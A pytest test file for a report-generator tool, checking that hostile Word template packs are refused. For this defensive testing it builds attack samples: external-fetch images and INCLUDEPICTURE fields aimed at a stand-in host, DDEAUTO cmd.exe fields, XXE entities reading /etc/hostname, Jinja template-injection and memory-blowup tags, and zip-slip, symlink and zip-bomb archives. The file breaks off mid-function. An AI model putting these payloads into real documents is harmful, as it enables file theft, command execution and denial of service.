"""Hostile template packs: every one is refused by ``packs check``, ``packs install`` and ``build``.

Each case starts from a good pack (a copy of the built-in jiguan made by ``packs new``, so it has an
example profile and passes every check) and changes one thing: a part of its Word template (the zip
members are rewritten in Python), a file in the pack folder, or the zip it is handed out as.

For every case:
- ``reportgen packs check FOLDER`` exits 1 with the Chinese refusal, no traceback;
- ``reportgen packs install`` of it (folder or zip) exits 1 and leaves the user's store exactly as it
  was (the good version still installed, no ``.installing-*`` staging folder left);
- for Word template cases: the pack copied into the store *by hand* ($REPORTGEN_HOME/packs/NAME), as
  a unit might do to skip the install check, is refused by ``reportgen build`` and no draft is written.

Word templates whose tags try to blow up memory or reach Python internals (issue F2) are checked in a
subprocess under a memory limit and a timeout: they must be refused before anything runs.
"""

from __future__ import annotations

import io
import os
import re
import shutil
import stat
import struct
import subprocess
import sys
import time
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner, Result

from conftest import R_NS, W_NS, jiguan_copy, member, rewrite_zip, tree_digest
from reportgen.cli import cli

NAME = "hostile"
UNSAFE = "模板包不安全，已拒绝"
RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
REL_TYPE = R_NS
REPORTGEN = Path(sys.executable).with_name("reportgen")
TEMPLATE = "word/template.docx"
EVIL_URL = "http://203.0.113.9/evil.png"


# ---------------------------------------------------------------- the good pack everything starts from


@pytest.fixture(scope="module")
def good_pack(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A copy of the built-in jiguan named ``hostile`` (version 0.1.0), made by ``packs new``."""
    pack = jiguan_copy(tmp_path_factory.mktemp("good"), NAME)
    assert (pack.name, pack.version) == (NAME, "0.1.0")
    return pack.root


def run(*args: str | Path) -> Result:
    return CliRunner().invoke(cli, [str(a) for a in args])




def set_version(root: Path, version: str) -> None:
    manifest = root / "pack.yaml"
    text = manifest.read_text(encoding="utf-8")
    lines = [f"version: {version}" if line.startswith("version:") else line for line in text.splitlines()]
    manifest.write_text("\n".join(lines) + "\n", encoding="utf-8")


def copy_pack(good: Path, target: Path, version: str = "0.2.0") -> Path:
    shutil.copytree(good, target)
    set_version(target, version)
    return target






def with_paragraphs(docx: bytes, xml: str) -> bytes:
    """document.xml with ``xml`` (paragraphs) added after the ``{{p body }}`` paragraph."""
    document = member(docx, "word/document.xml")
    assert "<w:sectPr>" in document
    document = document.replace("<w:sectPr>", xml + "<w:sectPr>", 1)
    if "xmlns:o=" not in document:
        document = document.replace("<w:document ", '<w:document xmlns:o="urn:schemas-microsoft-com:office:office" '
                                                   'xmlns:v="urn:schemas-microsoft-com:vml" ', 1)
    return document.encode("utf-8")


def with_relationship(docx: bytes, relationship: str, part: str = "word/_rels/document.xml.rels") -> bytes:
    """A .rels part (as text) with one more relationship element, written as given (any quoting)."""
    rels = member(docx, part)
    return rels.replace("</Relationships>", relationship + "</Relationships>").encode("utf-8")


def with_content_type(docx: bytes, element: str) -> bytes:
    types = member(docx, "[Content_Types].xml")
    return types.replace("</Types>", element + "</Types>").encode("utf-8")


def rels_part(*relationships: str) -> str:
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="{RELS_NS}">'
            + "".join(relationships) + "</Relationships>")


# ---------------------------------------------------------------- the cases


@dataclass(frozen=True)
class Case:
    id: str
    change: Callable[[Path, Path], None]  # (pack folder, scratch folder) -> modifies the pack folder in place
    message: str  # part of every refusal (check, install, build)
    word: bool = True  # a Word template case: also refused by build of a pack placed in the store by hand


def word_change(make: Callable[[bytes], Mapping[str, bytes | None]], *, target: str = TEMPLATE
                ) -> Callable[[Path, Path], None]:
    """Rewrite members of the pack's Word template (``make`` gets the template's bytes)."""

    def change(root: Path, scratch: Path) -> None:
        data = (root / TEMPLATE).read_bytes()
        (root / target).write_bytes(rewrite_zip(data, make(data)))

    return change


def paragraphs(xml: str) -> Callable[[Path, Path], None]:
    return word_change(lambda data: {"word/document.xml": with_paragraphs(data, xml)})


IMAGE_SINGLE_QUOTES = (f"<Relationship Id='rIdEvil' Type='{REL_TYPE}/image' Target='{EVIL_URL}' "
                       "TargetMode='External'/>")
IMAGE_SPACES = (f'<Relationship Id = "rIdEvil" Type = "{REL_TYPE}/image" Target = "{EVIL_URL}" '
                'TargetMode = "External" />')
IMAGE_PLAIN = f'<Relationship Id="rIdEvil" Type="{REL_TYPE}/image" Target="{EVIL_URL}" TargetMode="External"/>'
# The picture that uses the external image: Word fetches it when the draft is opened.
LINKED_PICTURE = (
    '<w:p><w:r><w:pict><v:shape id="evil" style="width:1pt;height:1pt">'
    '<v:imagedata r:id="rIdEvil" o:title=""/></v:shape></w:pict></w:r></w:p>'
)


def utf16_rels(data: bytes) -> Mapping[str, bytes]:
    text = member(data, "word/_rels/document.xml.rels").replace('encoding="UTF-8"', 'encoding="UTF-16"')
    text = text.replace("</Relationships>", IMAGE_PLAIN + "</Relationships>")
    return {"word/_rels/document.xml.rels": b"\xff\xfe" + text.encode("utf-16-le"),
            "word/document.xml": with_paragraphs(data, LINKED_PICTURE)}


def prefixed_rels(data: bytes) -> Mapping[str, bytes]:
    text = member(data, "word/_rels/document.xml.rels")
    text = text.replace("<Relationships xmlns=", "<p:Relationships xmlns:p=").replace("</Relationships>", "</p:Relationships>")
    text = text.replace("<Relationship ", "<p:Relationship ")
    text = text.replace("</p:Relationships>", IMAGE_PLAIN.replace("<Relationship ", "<p:Relationship ") + "</p:Relationships>")
    return {"word/_rels/document.xml.rels": text.encode("utf-8"),
            "word/document.xml": with_paragraphs(data, LINKED_PICTURE)}


def upper_case_rels(data: bytes) -> Mapping[str, bytes | None]:
    """The document's relationships stored as word/_rels/DOCUMENT.XML.RELS (OPC part names ignore case)."""
    return {"word/_rels/document.xml.rels": None,
            "word/_rels/DOCUMENT.XML.RELS": with_relationship(data, IMAGE_PLAIN),
            "word/document.xml": with_paragraphs(data, LINKED_PICTURE)}


def attached_template(data: bytes) -> Mapping[str, bytes]:
    settings = member(data, "word/settings.xml")
    if "xmlns:r=" not in settings:
        settings = settings.replace("<w:settings ", f'<w:settings xmlns:r="{R_NS}" ', 1)
    settings = settings.replace("</w:settings>", '<w:attachedTemplate r:id="rIdTpl"/></w:settings>')
    rels = rels_part(f"<Relationship Id='rIdTpl' Type='{REL_TYPE}/attachedTemplate' "
                     "Target='http://203.0.113.9/evil.dotm' TargetMode='External'/>")
    return {"word/settings.xml": settings.encode("utf-8"), "word/_rels/settings.xml.rels": rels.encode("utf-8")}


def field_simple(instruction: str) -> str:
    return f"<w:p><w:fldSimple w:instr='{instruction}'><w:r><w:t>图</w:t></w:r></w:fldSimple></w:p>"


def field_complex(*instruction: str) -> str:
    """A complex field; the instruction may be split over several w:instrText runs, as Word does."""
    codes = "".join(f'<w:r><w:instrText xml:space="preserve">{part}</w:instrText></w:r>' for part in instruction)
    return ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' + codes
            + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>图</w:t></w:r>'
              '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def field_nested(outer: str, inner: str, rest: str) -> str:
    """A complex field whose argument is itself a field: { OUTER "{ INNER }" REST }, as Word nests them
    (mail merge pictures: INCLUDEPICTURE "{ MERGEFIELD path }")."""
    def instr(text: str) -> str:
        return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'

    def char(kind: str) -> str:
        return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'

    return ("<w:p>" + char("begin") + instr(f' {outer} "') + char("begin") + instr(f" {inner} ") + char("separate")
            + "<w:r><w:t>…</w:t></w:r>" + char("end") + instr(f'" {rest} ') + char("separate")
            + "<w:r><w:t>图</w:t></w:r>" + char("end") + "</w:p>")


def ole_object(data: bytes) -> Mapping[str, bytes]:
    picture = ('<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" '
               'DrawAspect="Icon" ObjectID="_1" r:id="rIdOle"/></w:object></w:r></w:p>')
    return {
        "word/document.xml": with_paragraphs(data, picture),
        "word/_rels/document.xml.rels": with_relationship(
            data, f'<Relationship Id="rIdOle" Type="{REL_TYPE}/oleObject" Target="embeddings/oleObject1.bin"/>'),
        "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504,
        "[Content_Types].xml": with_content_type(
            data, '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'),
    }


def alt_chunk(data: bytes) -> Mapping[str, bytes]:
    chunk = b"<html><body><p>\xe5\xa4\x96\xe6\x9d\xa5\xe6\x96\x87\xe6\xa1\xa3</p></body></html>"
    return {
        "word/document.xml": with_paragraphs(data, '<w:altChunk r:id="rIdAlt"/>'),
        "word/_rels/document.xml.rels": with_relationship(
            data, f'<Relationship Id="rIdAlt" Type="{REL_TYPE}/aFChunk" Target="afchunk.htm"/>'),
        "word/afchunk.htm": chunk,
        "[Content_Types].xml": with_content_type(data, '<Default Extension="htm" ContentType="text/html"/>'),
    }


def macro_content_type(data: bytes) -> Mapping[str, bytes]:
    types = member(data, "[Content_Types].xml").replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml")
    assert "macroEnabled" in types
    return {"[Content_Types].xml": types.encode("utf-8")}


def vba_project(data: bytes) -> Mapping[str, bytes]:
    return {
        "word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 Attribute VB_Name = \"ThisDocument\"",
        "word/_rels/document.xml.rels": with_relationship(
            data, '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
                  'Target="vbaProject.bin"/>'),
    }


def doctype(data: bytes) -> Mapping[str, bytes]:
    document = member(data, "word/document.xml")
    head, rest = document.split("?>", 1)
    entities = ('<!DOCTYPE w:document [<!ENTITY a "哈哈哈哈哈哈哈哈"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
                '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY host SYSTEM "file:///etc/hostname">]>')
    rest = rest.replace("<w:sectPr>", "<w:p><w:r><w:t>&c;&host;</w:t></w:r></w:p><w:sectPr>", 1)
    return {"word/document.xml": (head + "?>" + entities + rest).encode("utf-8")}


def header_part_named_dat(data: bytes) -> Mapping[str, bytes]:
    """A header with an INCLUDEPICTURE field, stored as word/header1.dat: a part's kind comes from
    [Content_Types].xml, not from its extension (LibreOffice and Word show such a header)."""
    header = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:hdr xmlns:w="{W_NS}" xmlns:r="{R_NS}">'
              + field_simple(f' INCLUDEPICTURE "{EVIL_URL}" \\d ') + "</w:hdr>")
    document = member(data, "word/document.xml").replace(
        "<w:sectPr>", '<w:sectPr><w:headerReference w:type="default" r:id="rIdHdr"/>', 1)
    return {
        "word/document.xml": document.encode("utf-8"),
        "word/_rels/document.xml.rels": with_relationship(
            data, f'<Relationship Id="rIdHdr" Type="{REL_TYPE}/header" Target="header1.dat"/>'),
        "word/header1.dat": header.encode("utf-8"),
        "[Content_Types].xml": with_content_type(
            data, '<Override PartName="/word/header1.dat" '
                  'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"/>'),
    }


def extra_file(name: str, content: bytes) -> Callable[[Path, Path], None]:
    def change(root: Path, scratch: Path) -> None:
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_bytes(content)

    return change


OLE_HEADER = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504  # what an old .doc/.xls starts with

F1 = [
    Case("image-external-single-quotes", word_change(lambda d: {
        "word/_rels/document.xml.rels": with_relationship(d, IMAGE_SINGLE_QUOTES),
        "word/document.xml": with_paragraphs(d, LINKED_PICTURE)}), f"文件引用了外部资源“{EVIL_URL}”"),
    Case("image-external-spaces-around-equals", word_change(lambda d: {
        "word/_rels/document.xml.rels": with_relationship(d, IMAGE_SPACES),
        "word/document.xml": with_paragraphs(d, LINKED_PICTURE)}), f"文件引用了外部资源“{EVIL_URL}”"),
    Case("rels-utf16-bom", word_change(utf16_rels), f"文件引用了外部资源“{EVIL_URL}”"),
    Case("rels-namespace-prefix", word_change(prefixed_rels), f"文件引用了外部资源“{EVIL_URL}”"),
    Case("rels-upper-case-part-name", word_change(upper_case_rels), f"文件引用了外部资源“{EVIL_URL}”"),
    Case("attached-template-single-quotes", word_change(attached_template), "附加模板"),
    Case("includepicture-simple", paragraphs(field_simple(f' INCLUDEPICTURE "{EVIL_URL}" \\d ')),
         "域代码“INCLUDEPICTURE”"),
    Case("includepicture-complex", paragraphs(field_complex(f' INCLUDEPICTURE "{EVIL_URL}" \\d ')),
         "域代码“INCLUDEPICTURE”"),
    Case("includepicture-complex-split", paragraphs(field_complex(" INCLUDE", f'PICTURE "{EVIL_URL}" \\d ')),
         "域代码“INCLUDEPICTURE”"),
    Case("includepicture-nested-argument",
         paragraphs(field_nested("INCLUDEPICTURE", f'QUOTE "{EVIL_URL}"', "\\d")), "域代码“INCLUDEPICTURE”"),
    Case("includetext-nested-argument", paragraphs(field_nested("INCLUDETEXT", 'QUOTE "/etc/hostname"', "")),
         "域代码“INCLUDETEXT”"),
    Case("includepicture-lower-case", paragraphs(field_simple(f' includepicture "{EVIL_URL}" ')),
         "域代码“INCLUDEPICTURE”"),
    Case("includetext-simple", paragraphs(field_simple(' INCLUDETEXT "/etc/hostname" ')), "域代码“INCLUDETEXT”"),
    Case("includetext-complex", paragraphs(field_complex(' INCLUDETEXT "/etc/hostname" ')), "域代码“INCLUDETEXT”"),
    Case("ddeauto-simple", paragraphs(field_simple(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ')),
         "域代码“DDEAUTO”"),
    Case("ddeauto-complex", paragraphs(field_complex(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ')),
         "域代码“DDEAUTO”"),
    Case("ole-object", word_change(ole_object), "嵌入的 OLE 对象"),
    Case("alt-chunk-internal", word_change(alt_chunk), "嵌入的外部文档（altChunk）"),
    Case("macro-content-type", word_change(macro_content_type), "application/vnd.ms-word.document.macroEnabled.main+xml"),
    Case("vba-project", word_change(vba_project), "vbaProject.bin"),
    Case("doctype-entities", word_change(doctype), "含有 DTD/实体声明"),
    Case("includepicture-in-a-part-named-dat", word_change(header_part_named_dat), "word/header1.dat"),
    Case("external-image-in-a-spare-docx", word_change(lambda d: {
        "word/_rels/document.xml.rels": with_relationship(d, IMAGE_SINGLE_QUOTES)}, target="word/spare.docx"),
        f"文件引用了外部资源“{EVIL_URL}”", word=False),
    Case("doc-file-in-pack", extra_file("word/old.doc", OLE_HEADER), "模板包里不应有“.doc”文件", word=False),
    Case("xls-file-in-pack", extra_file("数据.xls", OLE_HEADER), "模板包里不应有“.xls”文件", word=False),
    Case("docm-file-in-pack", extra_file("word/macro.docm", b"PK\x05\x06" + b"\0" * 18), "模板包里不应有“.docm”文件",
         word=False),
]


# ---------------------------------------------------------------- one store per test


@dataclass(frozen=True)
class Setup:
    home: Path
    store: Path
    work: Path
    profile: Path  # the pack's example profile (pack: hostile), in the working folder


@pytest.fixture
def setup(tmp_path: Path, good_pack: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Setup]:
    """A store holding the good ``hostile`` 0.1.0, installed by ``packs install``; cwd is tmp_path/work."""
    home = tmp_path / "home"
    monkeypatch.setenv("REPORTGEN_HOME", str(home))
    work = tmp_path / "work"
    work.mkdir()
    monkeypatch.chdir(work)
    installed = run("packs", "install", good_pack)
    assert installed.exit_code == 0, installed.output
    assert f"已安装模板包 {NAME} 0.1.0" in installed.output
    profile = work / "资料.yaml"
    shutil.copyfile(good_pack / "example.yaml", profile)
    assert yaml.safe_load(profile.read_text(encoding="utf-8"))["pack"] == NAME
    yield Setup(home, home / "packs", work, profile)


def store_files(store: Path) -> list[str]:
    return sorted(p.name for p in store.iterdir())


def assert_refused(result: Result, message: str) -> None:
    assert result.exit_code == 1, result.output
    assert result.output.startswith(UNSAFE), result.output
    assert message in result.output, result.output
    assert "Traceback" not in result.output


def assert_install_refused(setup: Setup, source: Path, message: str) -> None:
    before = tree_digest(setup.home)
    result = run("packs", "install", source)
    assert_refused(result, message)
    assert tree_digest(setup.home) == before
    assert store_files(setup.store) == [".lock", NAME]
    assert not list(setup.store.glob(".installing-*"))
    assert yaml.safe_load((setup.store / NAME / "pack.yaml").read_text(encoding="utf-8"))["version"] == "0.1.0"


def assert_build_refused(setup: Setup, hostile: Path, message: str) -> None:
    """The pack copied into the store by hand (no install check): build refuses it and writes nothing."""
    shutil.rmtree(setup.store / NAME)
    shutil.copytree(hostile, setup.store / NAME)
    output = setup.work / "稿子.docx"
    result = run("build", setup.profile, "-o", output)
    assert_refused(result, message)
    assert not output.exists()
    assert sorted(p.name for p in setup.work.iterdir()) == [setup.profile.name]


def test_the_good_pack_passes_every_step(setup: Setup, good_pack: Path, tmp_path: Path) -> None:
    """The baseline each case changes: check passes, the upgrade installs, build writes the draft."""
    pack = copy_pack(good_pack, tmp_path / "src" / NAME)
    checked = run("packs", "check", pack)
    assert checked.exit_code == 0, checked.output
    assert f"模板包 {NAME} 0.2.0 检查通过" in checked.output
    installed = run("packs", "install", pack)
    assert installed.exit_code == 0, installed.output
    assert f"已将模板包 {NAME} 从 0.1.0 升级到 0.2.0" in installed.output
    built = run("build", setup.profile, "-o", setup.work / "稿子.docx")
    assert built.exit_code == 0, built.output
    assert (setup.work / "稿子.docx").is_file()


@pytest.mark.parametrize("case", F1, ids=[c.id for c in F1])
def test_hostile_office_content_is_refused(case: Case, setup: Setup, good_pack: Path, tmp_path: Path) -> None:
    hostile = copy_pack(good_pack, tmp_path / "src" / NAME)
    case.change(hostile, tmp_path)
    before = tree_digest(hostile)

    checked = run("packs", "check", hostile)
    assert_refused(checked, case.message)
    if case.word:
        assert f"{NAME}/{TEMPLATE}" in checked.output  # the file is named
    assert tree_digest(hostile) == before  # check writes nothing

    assert_install_refused(setup, hostile, case.message)
    zipped = tmp_path / f"{NAME}.zip"
    with zipfile.ZipFile(zipped, "w", zipfile.ZIP_DEFLATED) as zf:
        for path in sorted(hostile.rglob("*")):
            if path.is_file():
                zf.write(path, f"{NAME}/{path.relative_to(hostile).as_posix()}")
    assert_install_refused(setup, zipped, case.message)

    if case.word:
        assert_build_refused(setup, hostile, case.message)


def test_a_plain_hyperlink_is_allowed(setup: Setup, good_pack: Path, tmp_path: Path) -> None:
    """A clickable link (TargetMode External, Type …/hyperlink) fetches nothing when opened: it is fine."""
    hostile = copy_pack(good_pack, tmp_path / "src" / NAME)
    link = ('<w:p><w:hyperlink r:id="rIdLink"><w:r><w:t>上级党组织网站</w:t></w:r></w:hyperlink></w:p>')
    word_change(lambda d: {
        "word/_rels/document.xml.rels": with_relationship(
            d, f"<Relationship Id='rIdLink' Type='{REL_TYPE}/hyperlink' Target='https://www.example.org/' "
               "TargetMode = 'External'/>"),
        "word/document.xml": with_paragraphs(d, link)})(hostile, tmp_path)
    checked = run("packs", "check", hostile)
    assert checked.exit_code == 0, checked.output
    installed = run("packs", "install", hostile)
    assert installed.exit_code == 0, installed.output
    built = run("build", setup.profile, "-o", setup.work / "稿子.docx")
    assert built.exit_code == 0, built.output
    with zipfile.ZipFile(setup.work / "稿子.docx") as zf:
        assert "https://www.example.org/" in zf.read("word/_rels/document.xml.rels").decode("utf-8")
        assert "上级党组织网站" in zf.read("word/document.xml").decode("utf-8")


# ---------------------------------------------------------------- F2: Word template tags that try to run


F2 = [
    ("set-center", '{% set big = "x".center(1000000000) %}{{ big }}'),
    ("format-width", '{{ "%1000000000d"|format(1) }}'),
    ("for-doubling", '{% set s = "xy" %}{% for i in "abcdefghijklmnopqrstuvwxyz0123456789" %}'
                     "{% set s = s ~ s %}{{ s }}{% endfor %}"),
    ("multiply", '{{ "x" * 100000000 }}'),
    ("class", "{{ ''.__class__ }}"),
    ("class-mro-subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("attr-filter", "{{ title|attr('__class__') }}"),
]

def limited() -> None:
    import resource

    size = 1536 * 1024 * 1024
    resource.setrlimit(resource.RLIMIT_AS, (size, size))


def run_limited(*args: str | Path, cwd: Path) -> subprocess.CompletedProcess[str]:
    """reportgen in its own process under a 1.5 GB address-space limit and a 60 s timeout."""
    return subprocess.run([str(REPORTGEN), *map(str, args)], capture_output=True, text=True, timeout=60, cwd=cwd,
                          preexec_fn=limited, env={**os.environ, "PYTHONDONTWRITEBYTECODE": "1"}, check=False)


@pytest.mark.skipif(sys.platform == "win32", reason="resource limits are POSIX")
@pytest.mark.parametrize(("tag", "case_id"), [(tag, case_id) for case_id, tag in F2], ids=[c for c, _ in F2])
def test_word_template_tags_that_run_code_are_refused_before_running(tag: str, case_id: str, setup: Setup,
                                                                     good_pack: Path, tmp_path: Path) -> None:
    hostile = copy_pack(good_pack, tmp_path / "src" / NAME)
    paragraphs(f"<w:p><w:r><w:t>{tag.replace('<', '&lt;')}</w:t></w:r></w:p>")(hostile, tmp_path)
    message = "Word 模板里有不允许的写法"

    start = time.monotonic()
    checked = run_limited("packs", "check", hostile, cwd=setup.work)
    assert time.monotonic() - start < 30  # refused, not run until a limit stopped it
    before = tree_digest(setup.home)
    installed = run_limited("packs", "install", hostile, cwd=setup.work)
    after_install = tree_digest(setup.home)
    leftovers = list(setup.store.glob(".installing-*"))
    shutil.rmtree(setup.store / NAME)
    shutil.copytree(hostile, setup.store / NAME)
    built = run_limited("build", setup.profile, "-o", "稿子.docx", cwd=setup.work)

    for result in (checked, installed, built):
        assert result.returncode == 1, result.stdout + result.stderr
        assert message in result.stderr, result.stderr
        assert "Traceback" not in result.stdout + result.stderr
    assert after_install == before and not leftovers
    assert not (setup.work / "稿子.docx").exists()
    for result in (checked, installed, built):  # refused as unsafe, with the usual heading
        assert result.stderr.startswith(UNSAFE), result.stderr


def test_every_disallowed_tag_of_a_template_is_listed_with_its_line(setup: Setup, good_pack: Path,
                                                                     tmp_path: Path) -> None:
    hostile = copy_pack(good_pack, tmp_path / "src" / NAME)
    tags = "".join(f"<w:p><w:r><w:t>{tag}</w:t></w:r></w:p>" for _, tag in F2[:5])
    paragraphs(tags)(hostile, tmp_path)
    result = run("packs", "check", hostile)
    assert_refused(result, "Word 模板里有不允许的写法")
    lines = [line for line in result.output.splitlines() if "不允许的写法" in line]
    assert len(lines) >= 5, result.output
    for line in lines:  # each names the Word template (and the part) and the line, like every other problem
        assert re.search(rf"{NAME}/{TEMPLATE}\S*:\d+：Word 模板里有不允许的写法", line), result.output


def test_disallowed_tag_in_a_footer_is_refused(setup: Setup, good_pack: Path, tmp_path: Path) -> None:
    """Headers and footers are templates too (the page number footer may print the title)."""
    hostile = copy_pack(good_pack, tmp_path / "src" / NAME)

    def footer(data: bytes) -> Mapping[str, bytes]:
        xml = member(data, "word/footer1.xml")
        return {"word/footer1.xml": xml.replace("</w:ftr>", "<w:p><w:r><w:t>{{ title.__class__ }}</w:t></w:r></w:p>"
                                                            "</w:ftr>").encode("utf-8")}

    word_change(footer)(hostile, tmp_path)
    message = "Word 模板里有不允许的写法（.__class__）"
    checked = run("packs", "check", hostile)
    assert checked.exit_code == 1 and message in checked.output, checked.output
    before = tree_digest(setup.home)
    installed = run("packs", "install", hostile)
    assert installed.exit_code == 1 and message in installed.output, installed.output
    assert tree_digest(setup.home) == before
    shutil.rmtree(setup.store / NAME)
    shutil.copytree(hostile, setup.store / NAME)
    built = run("build", setup.profile, "-o", setup.work / "稿子.docx")
    assert built.exit_code == 1 and message in built.output, built.output
    assert not (setup.work / "稿子.docx").exists()


# ---------------------------------------------------------------- zips and folders handed out


def zip_of(folder: Path, target: Path, prefix: str = NAME,
           extra: list[tuple[zipfile.ZipInfo | str, bytes]] | None = None) -> Path:
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zf:
        for path in sorted(folder.rglob("*")):
            if path.is_file():
                zf.write(path, f"{prefix}/{path.relative_to(folder).as_posix()}")
        for info, data in extra or []:
            zf.writestr(info, data)
    return target


def symlink_entry(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.create_system = 3
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info


def patch_central(data: bytes, name: str, edit: Callable[[bytearray, int], None]) -> bytes:
    """Edit the central-directory record (and the local header) of one member of a zip."""
    out = bytearray(data)
    found = False
    offset = 0
    while (offset := out.find(b"PK\x01\x02", offset)) != -1:
        length = struct.unpack("<H", out[offset + 28: offset + 30])[0]
        if out[offset + 46: offset + 46 + length] == name.encode():
            edit(out, offset)
            found = True
        offset += 4
    assert found, name
    return bytes(out)


def declared_size(size: int) -> Callable[[bytearray, int], None]:
    def edit(out: bytearray, offset: int) -> None:
        out[offset + 24: offset + 28] = struct.pack("<I", size)

    return edit


def encrypted(out: bytearray, offset: int) -> None:
    flags = struct.unpack("<H", out[offset + 8: offset + 10])[0] | 0x1
    out[offset + 8: offset + 10] = struct.pack("<H", flags)
    local = struct.unpack("<I", out[offset + 42: offset + 46])[0]
    out[local + 6: local + 8] = struct.pack("<H", flags)


@dataclass(frozen=True)
class ZipCase:
    id: str
    build: Callable[[Path, Path], Path]  # (good pack copy, tmp) -> the zip to install
    message: str


def _extra(*entries: tuple[zipfile.ZipInfo | str, bytes]) -> Callable[[Path, Path], Path]:
    return lambda pack, tmp: zip_of(pack, tmp / "hostile.zip", extra=list(entries))


def _many_files(pack: Path, tmp: Path) -> Path:
    return zip_of(pack, tmp / "hostile.zip", extra=[(f"{NAME}/notes/{n}.txt", b"") for n in range(520)])


def _bomb(pack: Path, tmp: Path) -> Path:
    """60 MB of spaces in a notes file: a few dozen KB zipped."""
    target = zip_of(pack, tmp / "hostile.zip")
    with zipfile.ZipFile(target, "a", zipfile.ZIP_DEFLATED) as zf, zf.open(f"{NAME}/说明.txt", "w") as out:
        block = b" " * (1024 * 1024)
        for _ in range(60):
            out.write(block)
    assert target.stat().st_size < 1024 * 1024
    return target


def _patched(name: str, edit: Callable[[bytearray, int], None]) -> Callable[[Path, Path], Path]:
    def build(pack: Path, tmp: Path) -> Path:
        target = zip_of(pack, tmp / "hostile.zip")
        target.write_bytes(patch_central(target.read_bytes(), f"{NAME}/{name}", edit))
        return target

    return build


def _lying_size(pack: Path, tmp: Path) -> Path:
    """An entry that inflates to more than its header says (the size check must count real bytes)."""
    payload = b"# " + b"x" * (4 * 1024 * 1024) + b"\n"
    target = zip_of(pack, tmp / "hostile.zip", extra=[(f"{NAME}/说明.md", payload)])
    target.write_bytes(patch_central(target.read_bytes(), f"{NAME}/说明.md", declared_size(100)))
    return target


ZIPS = [
    ZipCase("dotdot", _extra((f"{NAME}/../../evil.txt", b"x")), f"压缩包里有指向包外的路径“{NAME}/../../evil.txt”"),
    ZipCase("absolute", _extra(("/tmp/evil.txt", b"x")), "压缩包里有指向包外的路径“/tmp/evil.txt”"),
    ZipCase("drive", _extra(("C:/Windows/evil.txt", b"x")), "压缩包里有指向包外的路径“C:/Windows/evil.txt”"),
    ZipCase("backslash", _extra((f"{NAME}\\..\\..\\evil.txt", b"x")), "压缩包里有指向包外的路径"),
    ZipCase("symlink", _extra((symlink_entry(f"{NAME}/prose/link.yaml"), b"/etc/passwd")),
            f"压缩包里有符号链接“{NAME}/prose/link.yaml”"),
    ZipCase("too-many-files", _many_files, "模板包里的文件超过 500 个"),
    ZipCase("bomb", _bomb, "模板包解压后超过 50 MB"),
    ZipCase("declared-huge", _patched("example.yaml", declared_size(0xFFFFFFF0)), "模板包解压后超过 50 MB"),
    ZipCase("encrypted-entry", _patched("prose/frame.yaml", encrypted), f"压缩包里的文件“{NAME}/prose/frame.yaml”加了密码"),
]


@pytest.mark.parametrize("case", ZIPS, ids=[c.id for c in ZIPS])
def test_hostile_zip_is_refused_and_leaves_the_store_as_it_was(case: ZipCase, setup: Setup, good_pack: Path,
                                                               tmp_path: Path) -> None:
    pack = copy_pack(good_pack, tmp_path / "src" / NAME)
    source = case.build(pack, tmp_path)
    assert_install_refused(setup, source, case.message)
    assert not (tmp_path / "evil.txt").exists() and not (tmp_path.parent / "evil.txt").exists()


def test_an_entry_larger_than_declared_is_refused(setup: Setup, good_pack: Path, tmp_path: Path) -> None:
    pack = copy_pack(good_pack, tmp_path / "src" / NAME)
    source = _lying_size(pack, tmp_path)
    before = tree_digest(setup.home)
    result = run("packs", "install", source)
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    assert "压缩包" in result.output
    assert tree_digest(setup.home) == before
    assert not list(setup.store.glob(".installing-*"))


def test_every_problem_of_a_hostile_zip_is_listed_at_once(setup: Setup, good_pack: Path, tmp_path: Path) -> None:
    pack = copy_pack(good_pack, tmp_path / "src" / NAME)
    source = zip_of(pack, tmp_path / "hostile.zip", extra=[(f"{NAME}/../evil.txt", b"x"), ("/abs.txt", b"x"),
                                                             (symlink_entry(f"{NAME}/link"), b"/")])
    before = tree_digest(setup.home)
    result = run("packs", "install", source)
    assert_refused(result, "（共 3 处）")
    assert f"“{NAME}/../evil.txt”" in result.output and "“/abs.txt”" in result.output
    assert f"压缩包里有符号链接“{NAME}/link”" in result.output
    assert tree_digest(setup.home) == before


def test_encrypted_part_inside_the_word_template_is_refused(setup: Setup, good_pack: Path, tmp_path: Path) -> None:
    hostile = copy_pack(good_pack, tmp_path / "src" / NAME)
    template = hostile / TEMPLATE
    template.write_bytes(patch_central(template.read_bytes(), "word/styles.xml", encrypted))
    for result in (run("packs", "check", hostile),):
